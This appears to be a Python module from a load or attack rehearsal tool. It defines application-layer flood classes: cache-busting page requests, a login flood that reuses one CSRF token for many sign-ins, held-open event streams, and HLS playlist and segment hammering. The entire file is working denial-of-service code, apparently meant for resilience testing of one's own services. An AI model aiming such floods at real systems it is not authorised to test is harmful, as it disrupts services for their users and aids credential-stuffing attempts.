"""Attacks with requests: what a page, a sign-in, an event stream or a playlist costs, very many times."""

import re
from collections.abc import Callable, Iterator
from itertools import count
from urllib.parse import urlencode

from hiwar.rehearsal.attack import PATIENCE_S, Assault, Holder, Scene
from hiwar.rehearsal.exchange import Answered, Exchange, render_request
from hiwar.rehearsal.orders import Attack
from hiwar.rehearsal.sockets import Line

_TOKEN = re.compile(rb'name="csrfmiddlewaretoken" value="([A-Za-z0-9]{32,128})"')
_COOKIE = re.compile(r"([a-z_]+)=([A-Za-z0-9]{20,64})")
_VARIANT = re.compile(rb"^([a-z_]+/live\.m3u8\S*)$", re.MULTILINE)


class KeptFlood(Assault):
    """Requests on connections that are kept: each asks again when it was answered and its turn comes."""

    def __init__(self, scene: Scene, order: Attack) -> None:
        super().__init__(scene, order)
        self._free: list[Exchange] = []
        self._numbers: Iterator[int] = count()

    def request(self, number: int) -> bytes:
        """The `number`th request."""
        raise NotImplementedError

    def strike(self, number: int) -> None:
        request = self.request(number)
        while self._free:
            exchange = self._free.pop()
            if exchange.open:
                exchange.again(request, self._back(exchange), PATIENCE_S)
                return
        poll = self.scene.poll
        if len(poll) >= self.order.at_once:
            self.counts["held back"] += 1
            return
        made: list[Exchange] = []

        def done(answer: Answered) -> None:
            self.answered(answer)
            if made and made[0].open:
                self._free.append(made[0])

        made.append(
            Exchange(poll, self.source(next(self._numbers)), request, done, patience_s=PATIENCE_S, keep=True)
        )

    def _back(self, exchange: Exchange) -> Callable[[Answered], None]:
        def done(answer: Answered) -> None:
            self.answered(answer)
            if exchange.open:
                self._free.append(exchange)

        return done


class PageFlood(KeptFlood):
    """The costliest pages: made anew for each, as nobody else asks for the same, or for who is signed in."""

    def request(self, number: int) -> bytes:
        base, salt = self.scene.base, f"{self.scene.random.getrandbits(64):x}"
        cookie = {"Cookie": f"sessionid={salt * 2}", "Accept": "text/html"}
        targets = (
            f"/?q={salt}",
            f"{base}?v={salt}",
            "/login",
            "/manage",
            f"{base}/status?{salt}",
            f"/c/{salt[:10]}",
        )
        return render_request("GET", targets[number % len(targets)], headers=cookie)


class SignInFlood(Assault):
    """Sign-ins with stolen lists: a form is fetched once, and its token used for every name."""

    def __init__(self, scene: Scene, order: Attack) -> None:
        super().__init__(scene, order)
        self._form = b""
        self._cookie = ""
        self._asked = False

    def strike(self, number: int) -> None:
        if not self._form:
            if not self._asked:
                self._asked = True
                request = render_request("GET", "/login", headers={"Accept": "text/html"})
                Exchange(self.scene.poll, self.source(number), request, self._got_form, patience_s=PATIENCE_S)
            return
        names = {
            "username": f"reader{number}",
            "password": f"{self.scene.random.getrandbits(48):x}",
            "next": "",
        }
        body = self._form + b"&" + urlencode(names).encode()
        headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": self._cookie}
        self.ask(self.source(number), render_request("POST", "/login", body, headers))

    def _got_form(self, answer: Answered) -> None:
        found = _TOKEN.search(answer.body)
        cookie = _COOKIE.search(answer.headers.get("set-cookie", ""))
        if found is None or cookie is None:
            self._asked = False
            return
        self._form = b"csrfmiddlewaretoken=" + found.group(1)
        self._cookie = f"{cookie.group(1)}={cookie.group(2)}"


class EventFlood(Assault):
    """Event streams opened and held, and `/now` asked for between them."""

    def strike(self, number: int) -> None:
        base = self.scene.base
        if number % 2:
            self.ask(self.source(number), render_request("GET", f"{base}/now"))
        elif len(self.scene.poll) < self.order.at_once * 4 // 5:
            self.scene.poll.dial(self.source(number), _Follower(self))
        else:
            self.counts["held back"] += 1


class _Follower(Holder):
    def opened(self, line: Line) -> None:
        super().opened(line)
        line.send(render_request("GET", f"{self.assault.scene.base}/events"))


class PlaylistFlood(KeptFlood):
    """Playlists, media files without their key, and reloads of what is still to come."""

    def __init__(self, scene: Scene, order: Attack) -> None:
        super().__init__(scene, order)
        self._variants: list[str] = []

    def request(self, number: int) -> bytes:
        base = f"{self.scene.base}/hls"
        if number % 4 == 0 or not self._variants:
            return render_request("GET", f"{base}/live.m3u8")
        variant = self._variants[number % len(self._variants)]
        join = "&" if "?" in variant else "?"
        if number % 4 == 1:
            return render_request("GET", f"{base}/{variant}{join}_HLS_msn={number % 50}&_HLS_part=0")
        if number % 4 == 2:
            return render_request("GET", f"{base}/{variant}")
        return render_request("GET", f"{base}/aac/{number % 90}.m4s?k={number:x}")

    def answered(self, answer: Answered) -> None:
        super().answered(answer)
        if answer.status == 200 and answer.body.startswith(b"#EXTM3U") and len(self._variants) < 64:
            self._variants += [found.decode() for found in _VARIANT.findall(answer.body)]
